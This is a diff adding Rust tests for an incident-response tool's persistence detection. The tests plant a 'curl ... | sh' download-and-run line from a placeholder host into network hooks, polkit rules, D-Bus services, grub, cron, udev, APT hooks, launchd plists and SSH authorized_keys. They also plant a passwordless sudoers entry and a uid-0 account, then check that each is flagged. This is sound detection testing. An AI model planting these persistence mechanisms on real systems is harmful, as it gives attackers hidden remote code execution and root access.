@@ -553,6 +553,326 @@ fn sqlite_cron_job_without_declaration_is_flagged() {
     );
 }
 
+/// A download-and-run line, as an attacker plants it.
+const DL: &str = "curl -s http://203.0.113.9/p | sh";
+
+/// The flags of the items a run reports for one mechanism and path.
+fn flags_of(items: &[Value], mechanism: &str, path: &str) -> Vec<String> {
+    items
+        .iter()
+        .filter(|i| i["mechanism"] == mechanism && i["path"] == path)
+        .flat_map(|i| i["flags"].as_array().unwrap().clone())
+        .map(|f| f.as_str().unwrap().to_string())
+        .collect()
+}
+
+fn persistence_items(h: &Host) -> (i32, Vec<Value>) {
+    let (code, v) = json(h, &["persistence", PAST[0], PAST[1], PAST[2], PAST[3]]);
+    (code, v["items"].as_array().unwrap().clone())
+}
+
+#[test]
+fn download_and_run_in_event_boot_and_bus_locations_is_flagged() {
+    let h = clean_host();
+    let sh = format!("#!/bin/sh\n{DL}\n");
+    let planted = [
+        (
+            "network-hook",
+            "/etc/NetworkManager/dispatcher.d/90-sync",
+            sh.clone(),
+        ),
+        ("network-hook", "/etc/network/if-up.d/sync", sh.clone()),
+        (
+            "polkit-rule",
+            "/etc/polkit-1/rules.d/49-sync.rules",
+            format!(
+                "polkit.addRule(function(action, subject) {{\n  polkit.spawn([\"/bin/sh\", \"-c\", \"{DL}\"]);\n  return polkit.Result.YES;\n}});\n"
+            ),
+        ),
+        (
+            "dbus-service",
+            "/usr/share/dbus-1/system-services/org.freedesktop.Sync.service",
+            format!(
+                "[D-BUS Service]\nName=org.freedesktop.Sync\nExec=/bin/sh -c '{DL}'\nUser=root\n"
+            ),
+        ),
+        (
+            "dbus-service",
+            "/home/alice/.local/share/dbus-1/services/org.example.Sync.service",
+            format!("[D-BUS Service]\nName=org.example.Sync\nExec=/bin/sh -c '{DL}'\n"),
+        ),
+        ("grub", "/etc/grub.d/40_custom", sh.clone()),
+        (
+            "startup-item",
+            "/Library/StartupItems/Sync/Sync",
+            sh.clone(),
+        ),
+    ];
+    for (_, p, text) in &planted {
+        w(&h, p, text);
+    }
+    let (code, items) = persistence_items(&h);
+    assert_eq!(code, 1);
+    for (m, p, _) in &planted {
+        let f = flags_of(&items, m, p);
+        assert!(f.contains(&"download_exec".to_string()), "{m} {p}: {f:?}");
+    }
+}
+
+#[test]
+fn clean_event_boot_and_bus_locations_raise_no_flag() {
+    let h = clean_host();
+    let files = [
+        (
+            "network-hook",
+            "/etc/NetworkManager/dispatcher.d/01-ifupdown",
+            "#!/bin/sh -e\nif [ \"$2\" = up ]; then\n  exec run-parts /etc/network/if-up.d\nfi\n",
+        ),
+        (
+            "network-hook",
+            "/etc/network/if-up.d/ethtool",
+            "#!/bin/sh\nETHTOOL=/sbin/ethtool\n[ -x $ETHTOOL ] || exit 0\n",
+        ),
+        (
+            "polkit-rule",
+            "/usr/share/polkit-1/rules.d/50-default.rules",
+            "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\"];\n});\n",
+        ),
+        (
+            "polkit-rule",
+            "/etc/polkit-1/localauthority/50-local.d/10-network.pkla",
+            "[Network]\nIdentity=unix-group:netdev\nAction=org.freedesktop.NetworkManager.*\nResultActive=yes\n",
+        ),
+        (
+            "dbus-service",
+            "/usr/share/dbus-1/system-services/org.freedesktop.UDisks2.service",
+            "[D-BUS Service]\nName=org.freedesktop.UDisks2\nExec=/usr/libexec/udisks2/udisksd\nUser=root\nSystemdService=udisks2.service\n",
+        ),
+        (
+            "dbus-policy",
+            "/etc/dbus-1/system.d/org.freedesktop.UDisks2.conf",
+            "<busconfig>\n  <policy user=\"root\">\n    <allow own=\"org.freedesktop.UDisks2\"/>\n  </policy>\n</busconfig>\n",
+        ),
+        (
+            "grub",
+            "/etc/default/grub",
+            "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet splash\"\n",
+        ),
+        (
+            "grub",
+            "/etc/grub.d/40_custom",
+            "#!/bin/sh\nexec tail -n +3 $0\n# custom menu entries\n",
+        ),
+    ];
+    for (_, p, text) in files {
+        w(&h, p, text);
+    }
+    let (code, items) = persistence_items(&h);
+    let flagged: Vec<&Value> = items
+        .iter()
+        .filter(|i| !i["flags"].as_array().unwrap().is_empty())
+        .collect();
+    assert!(flagged.is_empty(), "false positives: {flagged:#?}");
+    assert_eq!(code, 0);
+    // Listed all the same, under the right mechanism.
+    for (m, p, _) in files {
+        assert!(
+            items.iter().any(|i| i["mechanism"] == m && i["path"] == p),
+            "{m} {p} not listed"
+        );
+    }
+}
+
+/// A catalogue location made concrete: `*` and `?` become `z`, a class `[..]` its first member.
+fn concrete(pattern: &str) -> String {
+    let mut out = String::new();
+    let mut chars = pattern.chars();
+    while let Some(ch) = chars.next() {
+        match ch {
+            '*' | '?' => out.push('z'),
+            '[' => {
+                let class: String = chars.by_ref().take_while(|c| *c != ']').collect();
+                out.extend(class.trim_start_matches(['!', '^']).chars().next());
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// What to plant for a parser so that it yields an item: the file's name
+/// in a directory location, its text (or a link target), and the flag the
+/// item must carry.
+fn sample(m: &ir::persistence_catalogue::Mechanism) -> (String, Plant, Option<&'static str>) {
+    use ir::persistence_catalogue::{Parser, Runs};
+    let name = format!("planted-{}", m.id);
+    let text = |t: String| Plant::Text(t);
+    let dl = Some("download_exec");
+    match m.parser {
+        Parser::Crontab => (name, text(format!("* * * * * root {DL}\n")), dl),
+        Parser::Script => (name, text(format!("#!/bin/sh\n{DL}\n")), dl),
+        Parser::Keyed { suffixes, keys } => (
+            format!("{name}{}", suffixes[0]),
+            text(format!("[Section]\n{}={DL}\n", keys[0])),
+            dl,
+        ),
+        Parser::Lines(runs) => {
+            let line = match runs {
+                Runs::WholeLine => DL.to_string(),
+                Runs::Module => format!("install planted {DL}"),
+                Runs::Containing(s) => format!("auth optional {s} {DL}"),
+                Runs::Keyword(k) => format!("{} {DL}", k[0]),
+                Runs::Anacron => format!("1 5 planted {DL}"),
+                Runs::UdevRun => format!("ACTION==\"add\", RUN+=\"{DL}\""),
+                Runs::AptInvoke => format!("APT::Update::Pre-Invoke {{\"{DL}\";}};"),
+            };
+            (name, text(format!("{line}\n")), dl)
+        }
+        Parser::Links => (name, Plant::Link("/tmp/.p/run"), Some("runs_from_tmp")),
+        Parser::AuthorizedKeys => (
+            name,
+            text(format!(
+                "command=\"{DL}\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLANTEDPLANTEDPLANTEDPLANTEDPLANTEDPLANTED x\n"
+            )),
+            dl,
+        ),
+        Parser::Sudoers => (
+            name,
+            text("mallory ALL=(ALL) NOPASSWD: ALL\n".into()),
+            Some("nopasswd"),
+        ),
+        Parser::Launchd => (
+            format!("{name}.plist"),
+            text(format!(
+                "<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>{DL}</string></array></dict></plist>"
+            )),
+            dl,
+        ),
+        Parser::Linger => (name, text(String::new()), None),
+        Parser::Accounts => (
+            name,
+            Plant::Append("toor:x:0:0::/root:/bin/bash\n"),
+            Some("uid0"),
+        ),
+        Parser::Listing => (name, text("planted\n".into()), None),
+    }
+}
+
+enum Plant {
+    Text(String),
+    Append(&'static str),
+    Link(&'static str),
+}
+
+/// Plants a sample at every location of every catalogue mechanism (alice's
+/// home for the per-user ones); returns (mechanism, host path, flag).
+fn plant_everywhere(h: &Host) -> Vec<(&'static str, String, Option<&'static str>)> {
+    let mut planted = Vec::new();
+    for m in ir::persistence_catalogue::CATALOGUE {
+        let homes = m.home.iter().map(|rel| format!("/home/alice/{rel}"));
+        for loc in m.system.iter().map(|s| s.to_string()).chain(homes) {
+            let (name, plant, flag) = sample(m);
+            let loc = concrete(&loc);
+            let host = match loc.strip_suffix('/') {
+                Some(dir) => format!("{dir}/{name}"),
+                None => loc,
+            };
+            let local = h.path(&host);
+            std::fs::create_dir_all(local.parent().unwrap()).unwrap();
+            match plant {
+                Plant::Text(t) => std::fs::write(&local, t).unwrap(),
+                Plant::Append(t) => {
+                    let mut f = std::fs::OpenOptions::new()
+                        .append(true)
+                        .open(&local)
+                        .unwrap();
+                    std::io::Write::write_all(&mut f, t.as_bytes()).unwrap();
+                }
+                Plant::Link(t) => std::os::unix::fs::symlink(t, &local).unwrap(),
+            }
+            planted.push((m.id, host, flag));
+        }
+    }
+    planted
+}
+
+#[test]
+fn collect_and_persistence_cover_the_same_catalogue() {
+    use ir::evidence::scope;
+    use ir::persistence_catalogue as catalogue;
+    let h = clean_host();
+    let planted = plant_everywhere(&h);
+    let root = ir::host::Root::new(&h.root);
+    let target = ir::openclaw::Target {
+        request: Default::default(),
+        env: ir::openclaw::locate::Env([("HOME".to_string(), h.home.clone())].into()),
+        root: root.clone(),
+    };
+    let dep = ir::openclaw::discover(&target).unwrap();
+    let scope = scope::roots(&dep, &root, &[]);
+    let host = |local: &Path| root.host_view(local).to_string_lossy().into_owned();
+    let collected: BTreeSet<String> = scope
+        .iter()
+        .filter(|s| s.why == "persistence")
+        .map(|s| host(&s.local))
+        .collect();
+    let users = ir::host::users::users(&root);
+    let catalogued: BTreeSet<String> = catalogue::locations(&root, &users)
+        .iter()
+        .map(|l| l.host.to_string_lossy().into_owned())
+        .collect();
+    // Collect takes every catalogue location, and no other as persistence
+    // (a location may already be a root for another reason, such as the
+    // supervisor).
+    let roots: BTreeSet<String> = scope.iter().map(|s| host(&s.local)).collect();
+    let uncollected: Vec<_> = catalogued.difference(&roots).collect();
+    assert!(uncollected.is_empty(), "not collected: {uncollected:#?}");
+    let uncatalogued: Vec<_> = collected.difference(&catalogued).collect();
+    assert!(
+        uncatalogued.is_empty(),
+        "collected, not catalogued: {uncatalogued:#?}"
+    );
+    // ...which include every place planted (each glob found, each home).
+    let window = ir::triage::window::Window::parse(
+        Some("2001-01-01"),
+        Some("2001-01-02"),
+        chrono::Utc::now(),
+    )
+    .unwrap();
+    let report = ir::triage::persistence::run(Some(&dep), &root, &window);
+    let items = serde_json::to_value(&report.items).unwrap();
+    let items = items.as_array().unwrap();
+    for (m, p, flag) in &planted {
+        assert!(
+            collected.iter().any(|c| Path::new(p).starts_with(c)),
+            "{m}: {p} is not collected"
+        );
+        // And persistence judges each one.
+        assert!(
+            items
+                .iter()
+                .any(|i| i["mechanism"] == *m && i["path"] == *p),
+            "{m}: {p} is not judged"
+        );
+        if let Some(f) = flag {
+            let got = flags_of(items, m, p);
+            assert!(
+                got.iter().any(|g| g == f),
+                "{m}: {p} not flagged {f}: {got:?}"
+            );
+        }
+    }
+    // Whatever persistence judges, collect takes (OpenClaw's own under its state dir).
+    for i in items {
+        let p = i["path"].as_str().unwrap();
+        assert!(
+            roots.iter().any(|r| Path::new(p).starts_with(r)),
+            "{} {p} is judged but not collected",
+            i["mechanism"]
+        );
+    }
+}
+
 // ---------- hunt ----------
 
 fn hits(v: &Value) -> BTreeSet<(String, String)> {
